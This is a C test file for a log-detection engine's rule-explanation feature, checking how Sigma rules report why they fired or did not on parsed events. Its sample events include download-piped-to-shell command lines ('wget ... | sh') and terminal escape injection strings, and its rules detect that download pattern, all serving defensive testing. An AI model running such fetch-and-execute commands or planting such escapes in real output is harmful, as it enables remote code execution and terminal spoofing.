/*
 * tests/test_explain.c -- why a rule fired or did not (engine/explain.c,
 * canh_matcher_explain in engine/detect/match.c, the rule provenance the
 * Sigma loader records).
 *
 * Rules are Sigma YAML loaded with the shipped field map; events come from
 * real log lines through the parser, as `canh explain` gets them. Every
 * explanation is also checked against the matcher's verdict: the shipped
 * pack's samples, for every rule, must explain without one disagreement.
 *
 * Runs from the repository root (conf/fieldmap.yml, rules/).
 * Thread: Criterion runs each test in its own process.
 */
#include <criterion/criterion.h>

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>

#include "../engine/explain.h"
#include "../engine/load.h"
#include "../parsers/parse.h"

static canh_fieldmap_t *fm;

static void setup(void)
{
    char err[256];
    cr_assert_eq(canh_fieldmap_load(&fm, "conf/fieldmap.yml", err, sizeof(err)), CANH_OK, "%s",
                 err);
}

static void teardown(void)
{
    canh_fieldmap_free(fm);
}

TestSuite(explain, .init = setup, .fini = teardown);

/* A rule set, its matcher and a parser, and what they explain. */
typedef struct world {
    canh_ruleset_t *rs;
    canh_matcher_t *m;
    canh_parser_t *p;
    canh_explain_opts_t eo;
    canh_explain_counts_t counts;
    uint32_t asked[8];
    canh_buf_t out;
    int matched_of;      /* >= 0: also render canh.matched of this rule when it fires */
    canh_buf_t matched;
} world_t;

static void on_refuse(void *ud, const char *file, int line, const char *id, const char *why)
{
    cr_assert_fail("rule refused: %s:%d: %s: %s", file, line, id, why);
}

static void world_new(world_t *w, const char *yaml, uint64_t datasets)
{
    memset(w, 0, sizeof(*w));
    canh_rulevec_t rv = { 0 };
    size_t loaded = 0, refused = 0;
    char err[256];
    canh_sigma_load_string(fm, yaml, strlen(yaml), "test.yml", &rv, on_refuse, NULL, &loaded,
                           &refused);
    cr_assert_gt(loaded, 0);
    cr_assert_eq(canh_ruleset_build(&w->rs, &rv, on_refuse, NULL, err, sizeof(err)), CANH_OK,
                 "%s", err);
    canh_rulevec_free(&rv);
    w->m = canh_matcher_new(w->rs, err, sizeof(err));
    cr_assert(w->m, "%s", err);
    canh_parse_opts_t po = { .default_year = 2026, .extra_datasets = datasets };
    w->p = canh_parser_new(&po);
    cr_assert(w->p);
    w->eo.asked = w->asked;
    w->matched_of = -1;
    canh_buf_init(&w->out);
    canh_buf_init(&w->matched);
}

static void world_free(world_t *w)
{
    canh_parser_free(w->p);
    canh_matcher_free(w->m);
    canh_ruleset_free(w->rs);
    canh_buf_free(&w->out);
    canh_buf_free(&w->matched);
}

static uint32_t rule_idx(world_t *w, const char *id)
{
    for (uint32_t i = 0; i < canh_ruleset_size(w->rs); i++)
        if (strcmp(canh_ruleset_rule(w->rs, i)->id, id) == 0)
            return i;
    cr_assert_fail("no rule %s", id);
    return 0;
}

static void ask(world_t *w, const char *id)
{
    w->asked[w->eo.nasked++] = rule_idx(w, id);
}

static int on_event(void *ud, canh_event_t *ev)
{
    world_t *w = ud;
    cr_assert_eq(canh_explain_event(w->m, w->rs, ev, w->counts.events + 1, &w->eo, &w->out,
                                    &w->counts), CANH_OK);
    if (w->matched_of >= 0) {
        uint32_t r = (uint32_t)w->matched_of;
        canh_buf_reset(&w->matched);
        cr_assert_eq(canh_explain_matched_json(w->m, canh_ruleset_rule(w->rs, r), ev, r,
                                               &w->matched), CANH_OK);
    }
    return 0;
}

/* Explains one log line; returns the report (NUL-terminated). */
static const char *explain(world_t *w, const char *line, int json)
{
    canh_buf_reset(&w->out);
    w->eo.json = json;
    canh_parser_feed(w->p, line, strlen(line), on_event, w);
    canh_parser_flush(w->p, on_event, w);
    canh_buf_putc(&w->out, '\0');
    cr_assert(!w->out.oom);
    return w->out.ptr;
}

#define ASSERT_HAS(text, needle) \
    cr_assert(strstr((text), (needle)), "missing: %s\n--- in:\n%s", (needle), (text))
#define ASSERT_LACKS(text, needle) \
    cr_assert(!strstr((text), (needle)), "unexpected: %s\n--- in:\n%s", (needle), (text))

static const char rules_proc[] =
    "title: Download piped to a shell\n"
    "id: t-pipe\n"
    "logsource: {product: linux, category: process_creation}\n"
    "detection:\n"
    "  selection:\n"
    "    CommandLine|contains|all: ['wget', '| sh']\n"
    "  filter:\n"
    "    User: root\n"
    "  condition: selection and not filter\n"
    "level: high\n"
    "---\n"
    "title: Sensitive download by a named user\n"
    "id: t-user\n"
    "logsource: {product: linux, category: process_creation}\n"
    "detection:\n"
    "  sel_cmd:\n"
    "    CommandLine|contains: 'wget'\n"
    "  sel_user:\n"
    "    User|startswith: 'svc-'\n"
    "  condition: sel_cmd and sel_user\n"
    "level: medium\n";

#define PROC CANH_DS_BIT(CANH_DS_PROCESS_CREATION)

Test(explain, fired_rule_names_selection_field_and_value)
{
    world_t w;
    world_new(&w, rules_proc, PROC);
    const char *t = explain(&w, "{\"process\":{\"command_line\":\"wget -qO- http://203.0.113.9/x | "
                                "sh\"},\"user\":{\"name\":\"www-data\"}}", 0);
    ASSERT_HAS(t, "datasets: process_creation json\n");
    /* every decoded field, in order */
    const char *f1 = strstr(t, "    process.command_line = \"wget -qO- http://203.0.113.9/x | sh\"\n");
    const char *f2 = strstr(t, "    user.name = \"www-data\"\n");
    cr_assert(f1 && f2 && f1 < f2, "%s", t);
    ASSERT_HAS(t, "  1 rule fired\n");
    ASSERT_HAS(t, "  FIRED      high  \"Download piped to a shell\"  id t-pipe");
    ASSERT_HAS(t, "    condition: selection and not filter  -> true: selection `selection` is "
                  "true and selection `filter` is false, so `not filter` is true\n");
    ASSERT_HAS(t, "    selection `selection` is true\n"
                  "      true   CommandLine|contains|all: 'wget'  ->  process.command_line = "
                  "\"wget -qO- http://203.0.113.9/x | sh\"\n"
                  "      true   CommandLine|contains|all: '| sh'  ->  process.command_line = ");
    ASSERT_HAS(t, "    selection `filter` is false\n"
                  "      false  User: 'root'  ->  no value of user.name equals it (user.name = "
                  "\"www-data\")\n");
    /* t-user did not fire and was not asked for: not reported */
    ASSERT_LACKS(t, "t-user");
    cr_assert_eq(w.counts.disagreements, 0);
    world_free(&w);
}

Test(explain, asked_rule_fails_on_not_filter)
{
    world_t w;
    world_new(&w, rules_proc, PROC);
    ask(&w, "t-pipe");
    const char *t = explain(&w, "{\"process\":{\"command_line\":\"wget -O- http://mirror/i | sh\"},"
                                "\"user\":{\"name\":\"root\"}}", 0);
    ASSERT_HAS(t, "  no rule fired\n");
    ASSERT_HAS(t, "  NOT FIRED  high  \"Download piped to a shell\"  id t-pipe");
    ASSERT_HAS(t, "    condition: selection and not filter  -> false: selection `filter` is "
                  "true, so `not filter` is false\n");
    ASSERT_HAS(t, "    selection `filter` is true\n"
                  "      true   User: 'root'  ->  user.name = \"root\"\n");
    cr_assert_eq(w.counts.disagreements, 0);
    world_free(&w);
}

Test(explain, asked_rule_fails_on_a_missing_field)
{
    world_t w;
    world_new(&w, rules_proc, PROC);
    ask(&w, "t-user");
    const char *t = explain(&w, "{\"process\":{\"command_line\":\"wget http://mirror/pkg.deb\"}}", 0);
    ASSERT_HAS(t, "  NOT FIRED  medium  \"Sensitive download by a named user\"  id t-user");
    ASSERT_HAS(t, "    condition: sel_cmd and sel_user  -> false: selection `sel_user` is false\n");
    ASSERT_HAS(t, "    selection `sel_cmd` is true\n");
    ASSERT_HAS(t, "    selection `sel_user` is false\n"
                  "      false  User|startswith: 'svc-'  ->  user.name is absent\n");
    /* and with the field there but not matching */
    t = explain(&w, "{\"process\":{\"command_line\":\"wget http://m/p\"},\"user\":{\"name\":\"bob\"}}", 0);
    ASSERT_HAS(t, "      false  User|startswith: 'svc-'  ->  no value of user.name starts with it "
                  "(user.name = \"bob\")\n");
    cr_assert_eq(w.counts.disagreements, 0);
    world_free(&w);
}

Test(explain, rule_that_cannot_see_the_event)
{
    world_t w;
    world_new(&w, rules_proc, 0);
    ask(&w, "t-pipe");
    const char *t = explain(&w, "Mar 27 13:08:09 web01 sshd[1361]: Failed password for root from "
                                "203.0.113.41 port 54259 ssh2", 0);
    ASSERT_HAS(t, "    the rule does not see this event: its log source is for "
                  "process_creation; this event is syslog, sshd, auth\n");
    t = explain(&w, "Mar 27 13:08:09 web01 sshd[1361]: Failed password for root from "
                    "203.0.113.41 port 54259 ssh2", 1);
    json_error_t je;
    json_t *o = json_loads(t, 0, &je);
    cr_assert(o, "%s: %s", je.text, t);
    json_t *r = json_array_get(json_object_get(o, "rules"), 0);
    cr_assert(json_is_false(json_object_get(r, "seen")));
    cr_assert(json_is_false(json_object_get(r, "fired")));
    json_decref(o);
    world_free(&w);
}

static const char rules_vi[] =
    "title: Vietnamese failed login\n"
    "id: t-vi\n"
    "logsource: {product: linux, service: auth}\n"
    "detection:\n"
    "  keywords:\n"
    "    - 'Đăng nhập thất bại'\n"
    "  condition: keywords\n"
    "level: medium\n"
    "---\n"
    "title: Vietnamese failed login, by field\n"
    "id: t-vi-field\n"
    "logsource: {product: linux, service: auth}\n"
    "detection:\n"
    "  selection:\n"
    "    message|contains: 'nhập thất bại'\n"
    "  condition: selection\n"
    "level: medium\n";

Test(explain, vietnamese_nfd_upper_case_explains_right)
{
    world_t w;
    world_new(&w, rules_vi, CANH_DS_BIT(CANH_DS_AUTH));
    /* ĐĂNG NHẬP THẤT BẠI in NFD: every tone mark a combining character */
    const char *nfd_upper = "\xC4\x90" "A\xCC\x86" "NG NHA\xCC\x82\xCC\xA3" "P "
                            "THA\xCC\x82\xCC\x81" "T BA\xCC\xA3" "I";
    char line[512];
    snprintf(line, sizeof(line), "Mar 27 13:08:09 portal login[77]: %s cho user admin", nfd_upper);
    w.matched_of = (int)rule_idx(&w, "t-vi-field");
    const char *t = explain(&w, line, 0);
    ASSERT_HAS(t, "  2 rules fired\n");
    ASSERT_HAS(t, "  FIRED      medium  \"Vietnamese failed login\"  id t-vi");
    /* the keyword's own words, and the event's value as it came (NFD) */
    char want[512];
    snprintf(want, sizeof(want), "      true   keywords: 'Đăng nhập thất bại'  ->  message = "
             "\"%s cho user admin\"\n", nfd_upper);
    ASSERT_HAS(t, want);
    snprintf(want, sizeof(want), "      true   message|contains: 'nhập thất bại'  ->  message = "
             "\"%s cho user admin\"\n", nfd_upper);
    ASSERT_HAS(t, want);
    cr_assert_eq(w.counts.disagreements, 0);
    /* canh.matched carries the event's value */
    w.matched.ptr[w.matched.len] = '\0';
    json_error_t je;
    json_t *a = json_loadb(w.matched.ptr, w.matched.len, 0, &je);
    cr_assert(json_is_array(a) && json_array_size(a) == 1, "%.*s", (int)w.matched.len, w.matched.ptr);
    json_t *e = json_array_get(a, 0);
    cr_assert_str_eq(json_string_value(json_object_get(e, "field")), "message");
    snprintf(want, sizeof(want), "%s cho user admin", nfd_upper);
    cr_assert_str_eq(json_string_value(json_object_get(e, "value")), want);
    cr_assert_str_eq(json_string_value(json_object_get(e, "rule_field")), "message|contains");
    cr_assert_str_eq(json_string_value(json_object_get(e, "rule_value")), "nhập thất bại");
    json_decref(a);
    /* a near miss: another word, explained as a miss */
    ask(&w, "t-vi");
    t = explain(&w, "Mar 27 13:08:09 portal login[77]: \xC4\x90\xC4\x82NG NH\xE1\xBA\xACP "
                    "TH\xC3\x80NH C\xC3\x94NG", 0);
    ASSERT_HAS(t, "  no rule fired\n");
    ASSERT_HAS(t, "      false  keywords: 'Đăng nhập thất bại'  ->  no value of message contains it");
    cr_assert_eq(w.counts.disagreements, 0);
    world_free(&w);
}

Test(explain, terminal_escapes_in_values_are_escaped)
{
    world_t w;
    world_new(&w, rules_proc, PROC);
    ask(&w, "t-user");
    /* ESC [2J (clear screen), a right-to-left override, a C1 control, a
     * byte that is not UTF-8, a backslash and a quote */
    const char *t = explain(&w, "{\"process\":{\"command_line\":\"wget \\u001b[2J\\u202ex\\u0085 "
                                "a\\\\b \\\"q\\\"\"},\"user\":{\"name\":\"svc-\\u001b]0;pwn\\u0007\"}}", 0);
    cr_assert_null(strchr(t, 0x1b), "a raw ESC reached the terminal:\n%s", t);
    cr_assert_null(strchr(t, 0x07), "a raw BEL reached the terminal");
    cr_assert_null(strstr(t, "\xE2\x80\xAE"), "a raw RLO reached the terminal");
    cr_assert_null(strstr(t, "\xC2\x85"), "a raw C1 control reached the terminal");
    ASSERT_HAS(t, "    process.command_line = \"wget \\x1b[2J\\u{202e}x\\u{0085} a\\\\b \\\"q\\\"\"\n");
    ASSERT_HAS(t, "    user.name = \"svc-\\x1b]0;pwn\\x07\"\n");
    ASSERT_HAS(t, "      true   User|startswith: 'svc-'  ->  user.name = \"svc-\\x1b]0;pwn\\x07\"\n");
    /* invalid UTF-8 on a plain line */
    canh_buf_t b;
    canh_buf_init(&b);
    canh_explain_put_text(&b, "a\xff\xc3(b", 5, 100);
    canh_buf_putc(&b, '\0');
    cr_assert_str_eq(b.ptr, "a\\xff\\xc3(b");
    canh_buf_reset(&b);
    canh_explain_put_text(&b, "Đăng nhập", strlen("Đăng nhập"), 100);   /* text stays text */
    canh_buf_putc(&b, '\0');
    cr_assert_str_eq(b.ptr, "Đăng nhập");
    canh_buf_free(&b);
    world_free(&w);
}

Test(explain, json_is_one_valid_object_per_event)
{
    world_t w;
    world_new(&w, rules_proc, PROC);
    ask(&w, "t-user");
    const char *t = explain(&w, "{\"process\":{\"command_line\":\"wget -qO- http://h/x | sh \\u001b\"},"
                                "\"user\":{\"name\":\"www-data\"}}", 1);
    cr_assert_eq(strchr(t, '\n'), t + strlen(t) - 1, "one line: %s", t);
    json_error_t je;
    json_t *o = json_loads(t, 0, &je);
    cr_assert(o, "%s: %s", je.text, t);
    cr_assert_eq(json_integer_value(json_object_get(o, "event")), 1);
    json_t *fields = json_object_get(o, "fields");
    cr_assert_eq(json_array_size(fields), 3);   /* message, then the payload's */
    cr_assert_str_eq(json_string_value(json_object_get(json_array_get(fields, 1), "name")),
                     "process.command_line");
    json_t *rules = json_object_get(o, "rules");
    cr_assert_eq(json_array_size(rules), 2);
    json_t *r0 = json_array_get(rules, 0), *r1 = json_array_get(rules, 1);
    cr_assert_str_eq(json_string_value(json_object_get(r0, "id")), "t-pipe");
    cr_assert(json_is_true(json_object_get(r0, "fired")));
    cr_assert(json_is_false(json_object_get(r0, "asked")));
    cr_assert(json_is_true(json_object_get(r0, "agrees")));
    cr_assert_str_eq(json_string_value(json_object_get(r0, "condition")),
                     "selection and not filter");
    json_t *sel = json_array_get(json_object_get(r0, "selections"), 0);
    cr_assert_str_eq(json_string_value(json_object_get(sel, "name")), "selection");
    json_t *t0 = json_array_get(json_object_get(sel, "tests"), 0);
    cr_assert_str_eq(json_string_value(json_object_get(t0, "rule_field")), "CommandLine|contains|all");
    cr_assert_str_eq(json_string_value(json_object_get(t0, "rule_value")), "wget");
    cr_assert_str_eq(json_string_value(json_object_get(t0, "field")), "process.command_line");
    cr_assert_str_eq(json_string_value(json_object_get(t0, "value")),
                     "wget -qO- http://h/x | sh \x1b");
    cr_assert_str_eq(json_string_value(json_object_get(r1, "id")), "t-user");
    cr_assert(json_is_false(json_object_get(r1, "fired")));
    cr_assert(json_is_true(json_object_get(r1, "asked")));
    cr_assert_str_eq(json_string_value(json_object_get(r1, "why")),
                     "selection `sel_user` is false");
    json_decref(o);
    world_free(&w);
}

Test(explain, matched_lists_the_tests_that_made_it_fire)
{
    world_t w;
    world_new(&w, rules_proc, PROC);
    w.matched_of = (int)rule_idx(&w, "t-pipe");
    explain(&w, "{\"process\":{\"command_line\":\"wget -qO- http://h/x | sh\"},"
                "\"user\":{\"name\":\"www-data\"}}", 0);
    json_error_t je;
    json_t *a = json_loadb(w.matched.ptr, w.matched.len, 0, &je);
    cr_assert(json_is_array(a), "%s", je.text);
    /* both values of contains|all; nothing from `not filter` */
    cr_assert_eq(json_array_size(a), 2, "%.*s", (int)w.matched.len, w.matched.ptr);
    for (size_t i = 0; i < 2; i++) {
        json_t *e = json_array_get(a, i);
        cr_assert_str_eq(json_string_value(json_object_get(e, "selection")), "selection");
        cr_assert_str_eq(json_string_value(json_object_get(e, "field")), "process.command_line");
        cr_assert_str_eq(json_string_value(json_object_get(e, "value")), "wget -qO- http://h/x | sh");
        cr_assert_str_eq(json_string_value(json_object_get(e, "rule_field")),
                         "CommandLine|contains|all");
    }
    cr_assert_str_eq(json_string_value(json_object_get(json_array_get(a, 1), "rule_value")), "| sh");
    json_decref(a);
    world_free(&w);

    /* a test that is true under a `not` did not make the rule fire */
    world_new(&w, "title: not of and\n"
                  "id: t-notand\n"
                  "logsource: {product: linux, category: process_creation}\n"
                  "detection:\n"
                  "  selection:\n"
                  "    CommandLine|contains: 'wget'\n"
                  "  filter_user:\n"
                  "    User: root\n"
                  "  filter_dir:\n"
                  "    CurrentDirectory: /opt/updates\n"
                  "  condition: selection and not (filter_user and filter_dir)\n"
                  "level: low\n", PROC);
    w.matched_of = 0;
    const char *t = explain(&w, "{\"process\":{\"command_line\":\"wget http://h/x\","
                                "\"working_directory\":\"/tmp\"},\"user\":{\"name\":\"root\"}}", 0);
    ASSERT_HAS(t, "    condition: selection and not (filter_user and filter_dir)  -> true: "
                  "selection `selection` is true and selection `filter_dir` is false, so "
                  "`not (filter_user and filter_dir)` is true\n");
    ASSERT_HAS(t, "    selection `filter_user` is true\n");
    a = json_loadb(w.matched.ptr, w.matched.len, 0, &je);
    cr_assert(json_is_array(a), "%s", je.text);
    cr_assert_eq(json_array_size(a), 1, "%.*s", (int)w.matched.len, w.matched.ptr);
    cr_assert_str_eq(json_string_value(json_object_get(json_array_get(a, 0), "selection")),
                     "selection");
    json_decref(a);
    world_free(&w);
}

/* ---- the shipped pack: explanations agree with the matcher on every sample -- */

typedef struct pack_ctx {
    canh_matcher_t *m;
    const canh_ruleset_t *rs;
    uint32_t *hits;
    size_t checked, fired, want_rule;
    int want, got;
    char fail[512];
} pack_ctx_t;

typedef struct atoms_ctx {
    uint8_t *truth;
    size_t n, bad;
} atoms_ctx_t;

static void on_pack_atom(void *ud, const canh_explain_atom_t *a)
{
    atoms_ctx_t *c = ud;
    c->truth[a->atom] = (uint8_t)a->truth;
    c->n++;
    c->bad += !a->shown;
}

static int on_pack_event(void *ud, canh_event_t *ev)
{
    pack_ctx_t *c = ud;
    size_t nr = canh_ruleset_size(c->rs);
    int n = canh_matcher_match(c->m, ev, c->hits, nr);
    cr_assert_geq(n, 0);
    for (uint32_t r = 0; r < nr; r++) {
        const canh_rule_t *rule = canh_ruleset_rule(c->rs, r);
        int in = 0;
        for (int i = 0; i < n && !in; i++)
            in = c->hits[i] == r;
        if (r == c->want_rule && in)
            c->got = 1;
        atoms_ctx_t a = { .truth = calloc(rule->natoms + 1, 1) };
        cr_assert(a.truth);
        int rc = canh_matcher_explain(c->m, ev, r, on_pack_atom, &a);
        cr_assert(rc >= 0);
        c->checked++;
        if (rc != CANH_EXPLAIN_UNSEEN) {
            uint8_t *st = calloc(rule->nsels + 1, 1);
            for (size_t s = 0; s < rule->nsels; s++)
                st[s] = (uint8_t)canh_node_eval(rule->sels[s].tree, a.truth);
            cr_assert_eq(rc == CANH_EXPLAIN_FIRED, in, "%s: explain's verdict is not the matcher's",
                         rule->id);
            cr_assert_eq(a.n, rule->natoms);
            cr_assert_eq(a.bad, 0, "%s: an atom's value search disagrees with the matcher",
                         rule->id);
            cr_assert_eq(canh_node_eval(rule->cond, a.truth), in, "%s: atoms vs verdict", rule->id);
            cr_assert(rule->sel_cond && rule->condition, "%s: no condition over selections",
                      rule->id);
            cr_assert_eq(canh_node_eval(rule->sel_cond, st), in, "%s: selections vs verdict",
                         rule->id);
            free(st);
            c->fired += in;
        } else {
            cr_assert(!in);
        }
        free(a.truth);
    }
    return 0;
}

Test(explain, shipped_pack_samples_agree_with_the_matcher, .timeout = 60)
{
    canh_load_result_t lr;
    const char *paths[] = { "rules" };
    char err[256];
    cr_assert_eq(canh_load_rules(paths, 1, "conf/fieldmap.yml", NULL, NULL, NULL, &lr, err,
                                 sizeof(err)), CANH_OK, "%s", err);
    size_t nr = canh_ruleset_size(lr.rules);
    cr_assert_gt(nr, 40);
    pack_ctx_t c = { .rs = lr.rules, .hits = calloc(nr, sizeof(uint32_t)) };
    c.m = canh_matcher_new(lr.rules, err, sizeof(err));
    cr_assert(c.m, "%s", err);
    size_t samples = 0;
    for (uint32_t i = 0; i < nr; i++) {
        const canh_rule_t *r = canh_ruleset_rule(lr.rules, i);
        for (int want = 1; want >= 0; want--) {
            char **v = want ? r->match_samples : r->nomatch_samples;
            size_t n = want ? r->nmatch_samples : r->nnomatch_samples;
            for (size_t k = 0; k < n; k++) {
                canh_parse_opts_t po = { .default_year = 2026 };
                canh_parser_t *p = canh_parser_new(&po);
                c.want_rule = i;
                c.got = 0;
                for (const char *s = v[k]; *s;) {
                    const char *nl = strchr(s, '\n');
                    size_t len = nl ? (size_t)(nl - s) : strlen(s);
                    if (len)
                        canh_parser_feed(p, s, len, on_pack_event, &c);
                    s += len + (nl ? 1 : 0);
                }
                canh_parser_flush(p, on_pack_event, &c);
                canh_parser_free(p);
                cr_assert_eq(c.got, want, "%s sample %zu", r->id, k + 1);
                samples++;
            }
        }
    }
    cr_assert_gt(samples, 100);
    cr_assert_gt(c.fired, 50);
    fprintf(stderr, "explain: %zu samples, %zu rule explanations, %zu fired, all agree\n",
            samples, c.checked, c.fired);
    free(c.hits);
    canh_matcher_free(c.m);
    canh_load_result_free(&lr);
}
